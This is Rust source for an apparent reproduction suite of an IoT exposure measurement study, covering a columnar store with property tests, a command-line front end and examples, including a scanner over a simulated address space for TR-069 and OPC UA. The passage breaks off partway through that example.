            return Ok(());
        }
        for i in 1..rows_here {
            v += r.varint()?;
            if !f(start_row + i, v) {
                return Ok(());
            }
        }
        Ok(())
    }

    /// Visit every `(row, time)` with `start <= time < end`, in row order.
    /// Blocks outside the range are skipped via the restart directory.
    /// Returns the number of rows skipped without decoding (rows in blocks
    /// before the first candidate and after the early break) — the restart
    /// directory's analogue of a zone-map prune count, deterministic for a
    /// given store and range.
    pub fn for_each_in_range(
        &self,
        file: &[u8],
        start: u64,
        end: u64,
        mut f: impl FnMut(usize, u64),
    ) -> Result<u64> {
        if start >= end {
            return Ok(0);
        }
        // First block that could contain `start` (times are globally sorted).
        let first = self.blocks.partition_point(|b| b.max < start);
        let mut pruned = (first * BLOCK_ROWS).min(self.rows) as u64;
        for block in first..self.blocks.len() {
            if self.blocks[block].min >= end {
                // Everything from this block on is past the range.
                pruned += (self.rows - block * BLOCK_ROWS) as u64;
                break;
            }
            self.decode_block(file, block, |row, t| {
                if t >= end {
                    return false;
                }
                if t >= start {
                    f(row, t);
                }
                true
            })?;
        }
        Ok(pruned)
    }
}

/// View of a `BITSET` column.
#[derive(Debug, Clone)]
pub struct BitsetView {
    data_off: usize,
    rows: usize,
}

impl BitsetView {
    pub fn parse(_file: &[u8], off: usize, len: usize, rows: usize) -> Result<BitsetView> {
        if len < words_for(rows) * 8 {
            return Err(FormatError("BITSET column shorter than its row count".into()));
        }
        Ok(BitsetView { data_off: off, rows })
    }

    #[inline]
    pub fn get(&self, file: &[u8], row: usize) -> bool {
        let word = u64_at(file, self.data_off + (row / 64) * 8);
        word & (1 << (row % 64)) != 0
    }

    #[inline]
    pub fn word(&self, file: &[u8], word_idx: usize) -> u64 {
        u64_at(file, self.data_off + word_idx * 8)
    }

    pub fn count(&self, file: &[u8]) -> u64 {
        (0..words_for(self.rows))
            .map(|i| self.word(file, i).count_ones() as u64)
            .sum()
    }

    pub fn rows(&self) -> usize {
        self.rows
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn u32_zone_maps_prune() {
        let values: Vec<u32> = (0..3000).map(|i| i * 2).collect();
        let mut w = Writer::new();
        encode_u32(&mut w, &values, true);
        let v = U32View::parse(&w.buf, 0, w.buf.len(), values.len()).unwrap();
        assert_eq!(v.zones.len(), 3);
        assert_eq!(v.get(&w.buf, 1234), 2468);
        assert_eq!(v.find_eq(&w.buf, 2468), vec![1234]);
        assert_eq!(v.find_eq(&w.buf, 2469), Vec::<usize>::new());
    }

    #[test]
    fn dict_roundtrip_and_bitmaps() {
        let mut b = DictBuilder::new();
        let labels = ["tcp", "udp", "tcp", "icmp", "udp", "tcp"];
        for l in labels {
            b.push(l);
        }
        let mut w = Writer::new();
        b.encode(&mut w);
        let v = DictView::parse(&w.buf, 0, w.buf.len(), labels.len()).unwrap();
        assert_eq!(v.labels, vec!["tcp", "udp", "icmp"]);
        assert_eq!(v.label(&w.buf, 3), "icmp");
        assert_eq!(v.count(&w.buf, v.code_of("tcp").unwrap()), 3);
        assert_eq!(v.count(&w.buf, v.code_of("udp").unwrap()), 2);
        assert_eq!(v.code_of("gre"), None);
    }

    #[test]
    fn t64_range_scan() {
        let values: Vec<u64> = (0..2500u64).map(|i| i * 10).collect();
        let mut w = Writer::new();
        encode_t64(&mut w, &values);
        let v = T64View::parse(&w.buf, 0, w.buf.len(), values.len()).unwrap();
        assert_eq!(v.blocks.len(), 3);
        let mut seen = Vec::new();
        v.for_each_in_range(&w.buf, 10_240, 10_300, |row, t| seen.push((row, t)))
            .unwrap();
        assert_eq!(seen, vec![(1024, 10_240), (1025, 10_250), (1026, 10_260), (1027, 10_270), (1028, 10_280), (1029, 10_290)]);
        let mut n = 0;
        v.for_each_in_range(&w.buf, 0, u64::MAX, |_, _| n += 1).unwrap();
        assert_eq!(n, values.len());
    }

    #[test]
    fn bitset_roundtrip() {
        let bits: Vec<bool> = (0..130).map(|i| i % 3 == 0).collect();
        let mut w = Writer::new();
        encode_bitset(&mut w, &bits);
        let v = BitsetView::parse(&w.buf, 0, w.buf.len(), bits.len()).unwrap();
        for (i, &b) in bits.iter().enumerate() {
            assert_eq!(v.get(&w.buf, i), b, "bit {i}");
        }
        assert_eq!(v.count(&w.buf), bits.iter().filter(|&&b| b).count() as u64);
    }
}
