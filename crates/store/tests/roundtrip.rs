//! Property tests: every column codec must round-trip arbitrary inputs
//! through a full segment (encode → TableBuilder → SegmentWriter → parse),
//! and the indexed access paths (zone maps, bitmaps, T64 block directory)
//! must agree with a naive linear scan over the same data.
//!
//! The end-to-end variant — store-derived study tables equal to the
//! in-memory `StudyReport` ones across random seeds — lives in the
//! workspace `tests/store_roundtrip.rs`, where both `ofh-core` and
//! `ofh-store` are visible.

use ofh_store::bytes::Writer;
use ofh_store::column::{
    encode_bitset, encode_t64, encode_u16, encode_u32, DictBuilder, KIND_BITSET, KIND_DICT8,
    KIND_T64, KIND_U16, KIND_U32,
};
use ofh_store::segment::{SegmentView, SegmentWriter, TableBuilder, TableView};
use proptest::prelude::*;

/// Build a one-table segment with the given encoded columns and parse it
/// back — every test goes through the same full file path a real store
/// does, so header/offset bugs can't hide.
fn roundtrip(rows: usize, columns: Vec<(&str, u8, Writer)>) -> (Vec<u8>, TableView) {
    let mut table = TableBuilder::new(rows);
    for (name, kind, payload) in columns {
        table.column(name, kind, payload);
    }
    let mut seg = SegmentWriter::new();
    seg.table("t", table.finish());
    let file = seg.finish();
    let view = SegmentView::parse(&file).expect("segment parses");
    let table = view.tables.get("t").expect("table present").clone();
    (file, table)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    #[test]
    fn u32_roundtrip_and_find_eq(values in prop::collection::vec(0u32..5000, 0..3000)) {
        let mut w = Writer::new();
        encode_u32(&mut w, &values, true);
        let (file, t) = roundtrip(values.len(), vec![("v", KIND_U32, w)]);
        let v = t.u32("v").unwrap();
        for (i, &x) in values.iter().enumerate() {
            prop_assert_eq!(v.get(&file, i), x);
        }
        // Zone-pruned equality search agrees with the linear scan, for a
        // value that exists (usually) and one that never does.
        for needle in [values.first().copied().unwrap_or(7), 1_000_000] {
            let naive: Vec<usize> = values
                .iter()
                .enumerate()
                .filter(|&(_, &x)| x == needle)
                .map(|(i, _)| i)
                .collect();
            prop_assert_eq!(v.find_eq(&file, needle), naive);
        }
    }

    #[test]
    fn u16_roundtrip(values in prop::collection::vec(any::<u16>(), 0..3000)) {
        let mut w = Writer::new();
        encode_u16(&mut w, &values);
        let (file, t) = roundtrip(values.len(), vec![("v", KIND_U16, w)]);
        let v = t.u16("v").unwrap();
        for (i, &x) in values.iter().enumerate() {
            prop_assert_eq!(v.get(&file, i), x);
        }
    }

    #[test]
    fn dict_roundtrip_and_bitmap_counts(
        codes in prop::collection::vec(0usize..12, 1..3000),
    ) {
        // Labels drawn from a fixed small alphabet, so bitmap counts are
        // non-trivial; first-appearance order decides the code assignment.
        let alphabet = [
            "Telnet", "CoAP", "MQTT", "AMQP", "XMPP", "UPnP",
            "DE", "US", "CN", "-", "scanning_service", "malicious",
        ];
        let labels: Vec<&str> = codes.iter().map(|&c| alphabet[c]).collect();
        let mut d = DictBuilder::new();
        for l in &labels {
            d.push(l);
        }
        let mut w = Writer::new();
        d.encode(&mut w);
        let (file, t) = roundtrip(labels.len(), vec![("v", KIND_DICT8, w)]);
        let v = t.dict("v").unwrap();
        for (i, &l) in labels.iter().enumerate() {
            prop_assert_eq!(v.label(&file, i), l);
        }
        // Per-label popcount over the bitmap index equals the naive count,
        // and unknown labels have no code.
        for l in alphabet {
            let naive = labels.iter().filter(|&&x| x == l).count() as u64;
            match v.code_of(l) {
                Some(code) => prop_assert_eq!(v.count(&file, code), naive),
                None => prop_assert_eq!(naive, 0),
            }
        }
        prop_assert_eq!(v.code_of("never-stored"), None);
    }

    #[test]
    fn t64_roundtrip_and_range_scan(
        deltas in prop::collection::vec(0u64..100_000, 1..3000),
        window in (0u64..200_000_000, 0u64..10_000_000),
    ) {
        // Sorted input by construction: cumulative sums of random deltas.
        let mut values = Vec::with_capacity(deltas.len());
        let mut acc = 0u64;
        for d in deltas {
            acc += d;
            values.push(acc);
        }
        let mut w = Writer::new();
        encode_t64(&mut w, &values);
        let (file, t) = roundtrip(values.len(), vec![("v", KIND_T64, w)]);
        let v = t.t64("v").unwrap();

        let (start, width) = window;
        let end = start.saturating_add(width);
        let naive: Vec<(usize, u64)> = values
            .iter()
            .enumerate()
            .filter(|&(_, &x)| x >= start && x < end)
            .map(|(i, &x)| (i, x))
            .collect();
        let mut scanned = Vec::new();
        v.for_each_in_range(&file, start, end, |row, x| scanned.push((row, x)))
            .unwrap();
        prop_assert_eq!(scanned, naive);

        // Block directory doubles as a zone map: full-range scan sees all.
        let mut n = 0usize;
        v.for_each_in_range(&file, 0, u64::MAX, |_, _| n += 1).unwrap();
        prop_assert_eq!(n, values.len());
    }

    #[test]
    fn bitset_roundtrip_and_count(bits in prop::collection::vec(any::<bool>(), 0..3000)) {
        let mut w = Writer::new();
        encode_bitset(&mut w, &bits);
        let (file, t) = roundtrip(bits.len(), vec![("v", KIND_BITSET, w)]);
        let v = t.bitset("v").unwrap();
        for (i, &b) in bits.iter().enumerate() {
            prop_assert_eq!(v.get(&file, i), b);
        }
        let naive = bits.iter().filter(|&&b| b).count() as u64;
        prop_assert_eq!(v.count(&file), naive);
    }

    #[test]
    fn mixed_table_roundtrips(rows in 1usize..1500) {
        // One table with all five kinds side by side: alignment padding
        // between columns must not shift any view's reads.
        let addrs: Vec<u32> = (0..rows as u32).map(|i| i.wrapping_mul(2_654_435_761)).collect();
        let ports: Vec<u16> = (0..rows as u16).map(|i| i.wrapping_mul(31)).collect();
        let times: Vec<u64> = (0..rows as u64).map(|i| i * 97).collect();
        let bits: Vec<bool> = (0..rows).map(|i| i % 3 == 0).collect();
        let mut d = DictBuilder::new();
        for i in 0..rows {
            d.push(["a", "b", "c"][i % 3]);
        }
        let (mut wa, mut wp, mut wt, mut wb, mut wd) =
            (Writer::new(), Writer::new(), Writer::new(), Writer::new(), Writer::new());
        encode_u32(&mut wa, &addrs, true);
        encode_u16(&mut wp, &ports);
        encode_t64(&mut wt, &times);
        encode_bitset(&mut wb, &bits);
        d.encode(&mut wd);
        let (file, t) = roundtrip(
            rows,
            vec![
                ("addr", KIND_U32, wa),
                ("port", KIND_U16, wp),
                ("time", KIND_T64, wt),
                ("flag", KIND_BITSET, wb),
                ("label", KIND_DICT8, wd),
            ],
        );
        let (va, vp, vb, vd) = (
            t.u32("addr").unwrap(),
            t.u16("port").unwrap(),
            t.bitset("flag").unwrap(),
            t.dict("label").unwrap(),
        );
        for i in 0..rows {
            prop_assert_eq!(va.get(&file, i), addrs[i]);
            prop_assert_eq!(vp.get(&file, i), ports[i]);
            prop_assert_eq!(vb.get(&file, i), bits[i]);
            prop_assert_eq!(vd.label(&file, i), ["a", "b", "c"][i % 3]);
        }
        let mut seen = 0usize;
        t.t64("time")
            .unwrap()
            .for_each_in_range(&file, 0, u64::MAX, |row, x| {
                assert_eq!(x, times[row]);
                seen += 1;
            })
            .unwrap();
        prop_assert_eq!(seen, rows);
    }
}
