//! `openforhire` — the command-line front end of the reproduction suite.
//!
//! ```text
//! openforhire study  [--preset quick|standard|full] [--seed N] [--workers N] [--summary]
//! openforhire table  <4|5|6|7|8|10|12|13> [--preset ...] [--seed N]
//! openforhire figure <2|3|4|5|6|7|8|9>    [--preset ...] [--seed N]
//! openforhire export <scan|events|flowtuples> [--preset ...] [--seed N]
//! openforhire query  --store FILE <info|table N|host ADDR|count ...|range ...>
//! openforhire obsdiff <a.json> <b.json> [--volatile-pct P]
//! ```
//!
//! Any study-running command additionally accepts `--metrics-out FILE`
//! (versioned `metrics.json` snapshot), `--trace-out FILE` (sim-time span
//! trace as JSON lines), `--store-out FILE` (columnar study store; see
//! DESIGN.md §14), and the live-telemetry / flight-recorder flags
//! `--heartbeat`, `--live-out FILE` and `--flight-dir DIR` (DESIGN.md §15).
//! `query` runs against a previously written store without re-running the
//! study and can export the engine's own snapshot via `--metrics-out`.
//! `obsdiff` compares two snapshots as a regression gate: deterministic
//! sections byte-exact, volatile sections threshold-checked, exit code 1 on
//! drift.
//!
//! Everything is deterministic: the same preset and seed always print the
//! same bytes — including the metrics snapshot (outside its `host` section)
//! and the trace. Live telemetry and flight dumps are wall-clock artifacts,
//! quarantined from that contract.

use std::process::ExitCode;

use ofh_core::{Study, StudyConfig, StudyReport};

fn usage() -> &'static str {
    "openforhire — reproduction suite for 'Open for hire' (IMC '21)\n\
     \n\
     USAGE:\n\
       openforhire study                     run everything, print all tables & figures\n\
       openforhire study --summary           one-paragraph headline only\n\
       openforhire table <4|5|6|7|8|10|12|13>  print one table\n\
       openforhire figure <2|3|4|5|6|7|8|9>    print one figure's data\n\
       openforhire export <scan|events|flowtuples>  dump a dataset as JSON lines\n\
       openforhire query --store FILE <QUERY>       query a written store (no re-run)\n\
       openforhire obsdiff <a.json> <b.json>        compare two metrics snapshots\n\
     \n\
     QUERIES (for `openforhire query`):\n\
       info                                    store layout & provenance\n\
       table <4|5|7>                           re-render a study table from the store\n\
       host <ADDR>                             all scan records of one IPv4 address\n\
       count scan  [--source S] [--protocol P] [--misconfig M] [--country CC]\n\
       count events [--honeypot H] [--protocol P] [--attack-type T] [--class C]\n\
       count telescope [--protocol P] [--country CC]\n\
       range <START_MS> <END_MS> [--honeypot H]  count events in a sim-time window\n\
     \n\
       Filter values are exact dictionary labels (unknown labels count 0):\n\
       sources \"ZMap Scan\"|\"Project Sonar\"|\"Shodan\", protocols capitalized\n\
       (\"Telnet\"), --class malicious|scanning_service|unknown, --misconfig\n\
       variant names (e.g. TelnetNoAuth).\n\
     \n\
     OPTIONS:\n\
       --preset quick|standard|full|paper-scale|paper-smoke\n\
                                      scale preset (default: quick). paper-scale\n\
                                      simulates the full 2^32 IPv4 space with >1M\n\
                                      occupied hosts (release build recommended);\n\
                                      paper-smoke is its CI-sized twin.\n\
       --seed N                       master seed (default: 7)\n\
       --faults none|lossy|hostile|FILE.json\n\
                                      fault schedule: a named preset or a JSON\n\
                                      schedule file (see examples/faults_brownout.json;\n\
                                      default: none). Same schedule + seed + preset\n\
                                      prints identical bytes at any worker count.\n\
       --shards N                     shard count: a power of two in 1..=4096\n\
                                      (default: the preset's — 16, or 64 at paper\n\
                                      scale). A *semantic* knob: each count is a\n\
                                      different, equally valid deterministic trace.\n\
       --workers N                    shard worker threads; 0 = auto: min(host\n\
                                      cores, shards) — more workers than either\n\
                                      can only add contention (default: 1 — any\n\
                                      value prints identical bytes at a fixed\n\
                                      shard count)\n\
       --metrics-out FILE             write the metrics snapshot (JSON, versioned\n\
                                      schema). Also accepted by `query`, where it\n\
                                      writes the query engine's own snapshot.\n\
       --trace-out FILE               write the sim-time span trace (JSON lines)\n\
       --store-out FILE               write the columnar study store (deterministic:\n\
                                      byte-identical at any worker count)\n\
       --heartbeat                    print periodic [live] progress lines (events/s,\n\
                                      sim-time fraction, ETA) to stderr while the\n\
                                      study runs. Wall-clock output; never affects\n\
                                      the deterministic artifacts.\n\
       --heartbeat-ms N               heartbeat/live sampling interval (default: 500)\n\
       --live-out FILE                stream live telemetry samples as JSON lines\n\
                                      (volatile artifact — do not byte-compare)\n\
       --flight-dir DIR               arm the flight recorder: on a panic or a\n\
                                      fault-window transition, dump each shard's\n\
                                      recent activity ring to DIR/flight-*.jsonl\n\
     \n\
     OBSDIFF (regression sentinel):\n\
       openforhire obsdiff a.json b.json [--volatile-pct P]\n\
                                      exit 0 iff the deterministic sections match\n\
                                      byte-for-byte; with --volatile-pct P (e.g.\n\
                                      0.25), volatile host-section quantities may\n\
                                      differ by at most that fraction\n"
}

struct Args {
    command: String,
    target: Option<String>,
    preset: String,
    seed: u64,
    shards: Option<u32>,
    workers: usize,
    faults: String,
    summary: bool,
    metrics_out: Option<String>,
    trace_out: Option<String>,
    store_out: Option<String>,
    heartbeat: bool,
    heartbeat_ms: Option<u64>,
    live_out: Option<String>,
    flight_dir: Option<String>,
}

fn parse_args() -> Result<Args, String> {
    let mut args = std::env::args().skip(1);
    let command = args.next().ok_or("missing command")?;
    let mut out = Args {
        command,
        target: None,
        preset: "quick".into(),
        seed: 7,
        shards: None,
        workers: 1,
        faults: "none".into(),
        summary: false,
        metrics_out: None,
        trace_out: None,
        store_out: None,
        heartbeat: false,
        heartbeat_ms: None,
        live_out: None,
        flight_dir: None,
    };
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--preset" => {
                out.preset = args.next().ok_or("--preset needs a value")?;
            }
            "--seed" => {
                out.seed = args
                    .next()
                    .ok_or("--seed needs a value")?
                    .parse()
                    .map_err(|_| "--seed must be an integer")?;
            }
            "--shards" => {
                out.shards = Some(
                    args.next()
                        .ok_or("--shards needs a value")?
                        .parse()
                        .map_err(|_| "--shards must be an integer")?,
                );
            }
            "--workers" => {
                out.workers = args
                    .next()
                    .ok_or("--workers needs a value")?
                    .parse()
                    .map_err(|_| "--workers must be an integer")?;
            }
            "--faults" => {
                out.faults = args.next().ok_or("--faults needs a value")?;
            }
            "--metrics-out" => {
                out.metrics_out = Some(args.next().ok_or("--metrics-out needs a path")?);
            }
            "--trace-out" => {
                out.trace_out = Some(args.next().ok_or("--trace-out needs a path")?);
            }
            "--store-out" => {
                out.store_out = Some(args.next().ok_or("--store-out needs a path")?);
            }
            "--heartbeat" => out.heartbeat = true,
            "--heartbeat-ms" => {
                out.heartbeat_ms = Some(
                    args.next()
                        .ok_or("--heartbeat-ms needs a value")?
                        .parse()
                        .map_err(|_| "--heartbeat-ms must be an integer")?,
                );
            }
            "--live-out" => {
                out.live_out = Some(args.next().ok_or("--live-out needs a path")?);
            }
            "--flight-dir" => {
                out.flight_dir = Some(args.next().ok_or("--flight-dir needs a directory")?);
            }
            "--summary" => out.summary = true,
            other if !other.starts_with('-') && out.target.is_none() => {
                out.target = Some(other.to_string());
            }
            other => return Err(format!("unknown argument {other:?}")),
        }
    }
    Ok(out)
}

fn config_for(preset: &str, seed: u64) -> Result<StudyConfig, String> {
    match preset {
        "quick" => Ok(StudyConfig::quick(seed)),
        "standard" => Ok(StudyConfig::standard(seed)),
        "full" => Ok(StudyConfig::full(seed)),
        "paper-scale" => Ok(StudyConfig::paper_scale(seed)),
        "paper-smoke" => Ok(StudyConfig::paper_smoke(seed)),
        other => Err(format!(
            "unknown preset {other:?} (quick|standard|full|paper-scale|paper-smoke)"
        )),
    }
}

fn print_table(report: &StudyReport, which: &str) -> Result<(), String> {
    let text = match which {
        "4" => report.table4.render(),
        "5" => report.table5.render(),
        "6" => report.render_table6(),
        "7" => report.table7.render(),
        "8" => report.render_table8(),
        "10" => report.table10.render(),
        "12" => report.table12.render(),
        "13" => report.table13.render(),
        other => return Err(format!("no table {other} (4|5|6|7|8|10|12|13)")),
    };
    println!("{text}");
    Ok(())
}

fn print_figure(report: &StudyReport, which: &str) -> Result<(), String> {
    let text = match which {
        "2" => report.fig2.render(),
        "3" => report.fig3.render(),
        "4" => report.breakdown.render_fig4(),
        "5" => report.fig5.render(),
        "6" => report.fig6.render(),
        "7" => report.breakdown.render_fig7(),
        "8" => report.fig8.render(),
        "9" => report.fig9.render(),
        other => return Err(format!("no figure {other} (2..=9)")),
    };
    println!("{text}");
    Ok(())
}

fn export(report: &StudyReport, which: &str) -> Result<(), String> {
    match which {
        "scan" => print!("{}", report.zmap_results.to_jsonl()),
        "events" => {
            for event in &report.dataset.events {
                println!(
                    "{}",
                    serde_json::to_string(event).map_err(|e| e.to_string())?
                );
            }
        }
        "flowtuples" => {
            for record in report.telescope.records() {
                println!(
                    "{}",
                    serde_json::to_string(record).map_err(|e| e.to_string())?
                );
            }
        }
        other => return Err(format!("no dataset {other} (scan|events|flowtuples)")),
    }
    Ok(())
}

/// Parse and run `openforhire query --store FILE <QUERY>` against a store
/// file written by a previous `--store-out` run. No study is executed.
fn run_query(argv: &[String]) -> Result<(), String> {
    use ofh_store::{Query, QueryEngine, StoreReader};

    let mut store_path: Option<String> = None;
    let mut metrics_out: Option<String> = None;
    let mut words: Vec<String> = Vec::new();
    let mut filters: Vec<(String, String)> = Vec::new();
    let mut it = argv.iter();
    while let Some(arg) = it.next() {
        match arg.as_str() {
            "--store" => {
                store_path = Some(it.next().ok_or("--store needs a path")?.clone());
            }
            "--metrics-out" => {
                metrics_out = Some(it.next().ok_or("--metrics-out needs a path")?.clone());
            }
            flag if flag.starts_with("--") => {
                let value = it.next().ok_or_else(|| format!("{flag} needs a value"))?;
                filters.push((flag[2..].to_string(), value.clone()));
            }
            word => words.push(word.to_string()),
        }
    }
    let store_path = store_path.ok_or("query needs --store FILE")?;
    // Pull an optional label filter out of the `--flag value` pairs,
    // rejecting anything the chosen query doesn't understand.
    let mut take = |name: &str| -> Option<String> {
        filters
            .iter()
            .position(|(k, _)| k == name)
            .map(|i| filters.remove(i).1)
    };

    let query = match words.first().map(String::as_str) {
        Some("info") => Query::Info,
        Some("table") => {
            let n: u8 = words
                .get(1)
                .ok_or("table: which one? (4|5|7)")?
                .parse()
                .map_err(|_| "table number must be 4, 5 or 7")?;
            Query::Table(n)
        }
        Some("host") => {
            let addr = words
                .get(1)
                .ok_or("host: which address?")?
                .parse()
                .map_err(|_| "host takes an IPv4 address")?;
            Query::HostLookup { addr }
        }
        Some("count") => match words.get(1).map(String::as_str) {
            Some("scan") => Query::CountScan {
                source: take("source"),
                protocol: take("protocol"),
                misconfig: take("misconfig"),
                country: take("country"),
            },
            Some("events") => Query::CountEvents {
                honeypot: take("honeypot"),
                protocol: take("protocol"),
                attack_type: take("attack-type"),
                class: take("class"),
            },
            Some("telescope") => Query::CountTelescope {
                protocol: take("protocol"),
                country: take("country"),
            },
            _ => return Err("count: scan, events or telescope?".into()),
        },
        Some("range") => {
            let parse_ms = |i: usize, what: &str| -> Result<u64, String> {
                words
                    .get(i)
                    .ok_or(format!("range needs {what}"))?
                    .parse()
                    .map_err(|_| format!("range {what} must be integer milliseconds"))
            };
            Query::EventsInRange {
                start_ms: parse_ms(1, "START_MS")?,
                end_ms: parse_ms(2, "END_MS")?,
                honeypot: take("honeypot"),
            }
        }
        _ => return Err(format!("query: what? \n\n{}", usage())),
    };
    if let Some((flag, _)) = filters.first() {
        return Err(format!("--{flag} does not apply to this query"));
    }

    let reader = StoreReader::open(std::path::Path::new(&store_path))
        .map_err(|e| format!("opening {store_path}: {e}"))?;
    let engine = QueryEngine::new(std::sync::Arc::new(reader));
    let answer = engine
        .query(&query)
        .map_err(|e| format!("query failed: {e}"))?;
    println!("{}", answer.render());
    if let Some(path) = &metrics_out {
        let json = serde_json::to_string_pretty(&engine.snapshot()).map_err(|e| e.to_string())?;
        std::fs::write(path, json + "\n").map_err(|e| format!("writing {path}: {e}"))?;
        eprintln!("wrote query-engine metrics snapshot to {path}");
    }
    Ok(())
}

/// `openforhire obsdiff <a.json> <b.json> [--volatile-pct P]` — the
/// regression sentinel. Deterministic snapshot sections must match
/// byte-for-byte; volatile (host) quantities are threshold-checked when a
/// tolerance is given. Exits nonzero on drift.
fn run_obsdiff(argv: &[String]) -> Result<(), String> {
    use ofh_obs::{diff_snapshots, DiffOptions, MetricsSnapshot};

    let mut volatile_pct: Option<f64> = None;
    let mut paths: Vec<String> = Vec::new();
    let mut it = argv.iter();
    while let Some(arg) = it.next() {
        match arg.as_str() {
            "--volatile-pct" => {
                volatile_pct = Some(
                    it.next()
                        .ok_or("--volatile-pct needs a value")?
                        .parse()
                        .map_err(|_| "--volatile-pct must be a number (fraction, e.g. 0.25)")?,
                );
            }
            word if !word.starts_with('-') => paths.push(word.to_string()),
            other => return Err(format!("unknown argument {other:?}")),
        }
    }
    let [a_path, b_path] = paths.as_slice() else {
        return Err("obsdiff takes exactly two snapshot paths".into());
    };
    let load = |p: &str| -> Result<MetricsSnapshot, String> {
        let text = std::fs::read_to_string(p).map_err(|e| format!("reading {p}: {e}"))?;
        let snap: MetricsSnapshot =
            serde_json::from_str(&text).map_err(|e| format!("parsing {p}: {e}"))?;
        snap.validate().map_err(|e| format!("{p}: {e}"))?;
        Ok(snap)
    };
    let diff = diff_snapshots(&load(a_path)?, &load(b_path)?, &DiffOptions { volatile_pct });
    print!("{}", diff.render());
    if diff.clean() {
        Ok(())
    } else {
        Err(format!("snapshot drift between {a_path} and {b_path}"))
    }
}

fn run() -> Result<(), String> {
    // `query` and `obsdiff` have their own grammars, so they never go
    // through the study-argument parser.
    {
        let argv: Vec<String> = std::env::args().skip(1).collect();
        if argv.first().map(String::as_str) == Some("query") {
            return run_query(&argv[1..]);
        }
        if argv.first().map(String::as_str) == Some("obsdiff") {
            return run_obsdiff(&argv[1..]);
        }
    }
    let args = parse_args().map_err(|e| format!("{e}\n\n{}", usage()))?;
    if args.command == "help" || args.command == "--help" {
        println!("{}", usage());
        return Ok(());
    }
    let mut cfg = config_for(&args.preset, args.seed)?;
    if let Some(shards) = args.shards {
        cfg.shards = shards;
    }
    cfg.workers = args.workers;
    // Live telemetry and the flight recorder are execution knobs: they never
    // change the deterministic artifacts, only what gets observed.
    cfg.obs.heartbeat = args.heartbeat;
    if let Some(ms) = args.heartbeat_ms {
        cfg.obs.heartbeat_ms = ms.max(1);
    }
    cfg.obs.live_out = args.live_out.clone();
    cfg.obs.flight_dir = args.flight_dir.clone();
    // Resolve and validate the fault schedule up front: a bad schedule is a
    // clean startup error, never a mid-run panic.
    cfg.faults = ofh_core::faults_from_arg(&args.faults)?;
    // Validate here so a bad --shards value is a clean startup error too.
    cfg.validate()?;
    eprintln!(
        "running {} preset (seed {}) — deterministic, ~{}",
        args.preset,
        args.seed,
        match args.preset.as_str() {
            "quick" | "paper-smoke" => "1s",
            "standard" => "10s",
            "paper-scale" => "minutes (use --workers 0)",
            _ => "80s",
        }
    );
    let report = Study::new(cfg).run();
    if let Some(path) = &args.metrics_out {
        let json =
            serde_json::to_string_pretty(&report.metrics).map_err(|e| e.to_string())?;
        std::fs::write(path, json + "\n")
            .map_err(|e| format!("writing {path}: {e}"))?;
        eprintln!("wrote metrics snapshot to {path}");
    }
    if let Some(path) = &args.trace_out {
        std::fs::write(
            path,
            report
                .trace
                .to_jsonl(&report.metrics.preset, report.metrics.shards),
        )
            .map_err(|e| format!("writing {path}: {e}"))?;
        eprintln!(
            "wrote {} trace spans to {path} ({} emitted, {} dropped by ring bound)",
            report.trace.len(),
            report.trace.total_emitted,
            report.trace.total_dropped
        );
    }
    if let Some(path) = &args.store_out {
        let bytes = report
            .write_store(std::path::Path::new(path))
            .map_err(|e| format!("writing {path}: {e}"))?;
        eprintln!("wrote columnar store to {path} ({bytes} bytes)");
    }
    match args.command.as_str() {
        "study" => {
            if args.summary {
                println!("{}", report.render_summary());
            } else {
                println!("{}", report.render_full());
            }
            Ok(())
        }
        "table" => print_table(&report, args.target.as_deref().ok_or("table: which one?")?),
        "figure" => print_figure(&report, args.target.as_deref().ok_or("figure: which one?")?),
        "export" => export(&report, args.target.as_deref().ok_or("export: which dataset?")?),
        other => Err(format!("unknown command {other:?}\n\n{}", usage())),
    }
}

fn main() -> ExitCode {
    match run() {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("error: {e}");
            ExitCode::FAILURE
        }
    }
}
