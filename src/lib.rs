pub use ofh_core::*;
