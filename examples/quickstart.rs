//! Quickstart: run the whole study at the `quick` preset and print every
//! table and figure. Finishes in about a second in release mode.
//!
//! ```sh
//! cargo run --release --example quickstart
//! ```

use ofh_core::{Study, StudyConfig};

fn main() {
    let t0 = std::time::Instant::now();
    let report = Study::new(StudyConfig::quick(7)).run();
    println!("{}", report.render_full());
    eprintln!("elapsed: {:?}", t0.elapsed());
}
