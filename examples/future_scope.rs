//! Future scope: the paper's §6 extension — scanning TR-069 and OPC UA.
//!
//! "With regard to future work, we plan to extend the scanning scope of
//! protocols to include TR069, SMB, and industrial IoT protocols like DDS
//! and OPC UA." This example builds a custom sweep over TR-069 CPEs and
//! OPC UA servers from the same public building blocks the six-protocol
//! study uses: the address permutation, the agent model, and the simulator.
//!
//! ```sh
//! cargo run --release --example future_scope [seed]
//! ```

use std::collections::BTreeMap;
use std::net::Ipv4Addr;

use ofh_core::devices::endpoints::{OpcUaDevice, Tr069Device};
use ofh_core::devices::Universe;
use ofh_core::net::rng::rng_for;
use ofh_core::net::{
    Agent, ConnToken, NetCtx, Payload, SimDuration, SimNet, SimNetConfig, SimTime, SockAddr,
};
use ofh_core::scan::AddressPermutation;
use ofh_core::wire::opcua::{Acknowledge, Hello};
use ofh_core::wire::tr069::Inform;
use ofh_core::wire::{http, ports};
use rand::Rng;

/// What the custom sweep learned about one host.
#[derive(Debug, Clone)]
enum Finding {
    /// TR-069 CPE that answered without auth (identity leaked).
    OpenCpe(Inform),
    /// TR-069 CPE demanding credentials (exposed, configured).
    SecuredCpe,
    /// OPC UA server that completed the HEL/ACK handshake.
    OpcUaServer(Acknowledge),
}

/// A sweep agent for the two future-scope protocols, built on the same
/// permutation + paced-batch structure as the six-protocol scanner.
struct FutureScanner {
    perm: AddressPermutation,
    base: u32,
    batch: u32,
    grabs: BTreeMap<ConnToken, (Ipv4Addr, u16)>,
    findings: BTreeMap<Ipv4Addr, Finding>,
    probes: u64,
}

const TICK: u64 = u64::MAX;

impl FutureScanner {
    fn new(universe: &Universe, seed: u64) -> FutureScanner {
        FutureScanner {
            perm: AddressPermutation::new(universe.size(), seed),
            base: u32::from(universe.cidr().first()),
            batch: 4_096,
            grabs: BTreeMap::new(),
            findings: BTreeMap::new(),
            probes: 0,
        }
    }
}

impl Agent for FutureScanner {
    fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
        ctx.set_timer(SimDuration::from_millis(1), TICK);
    }

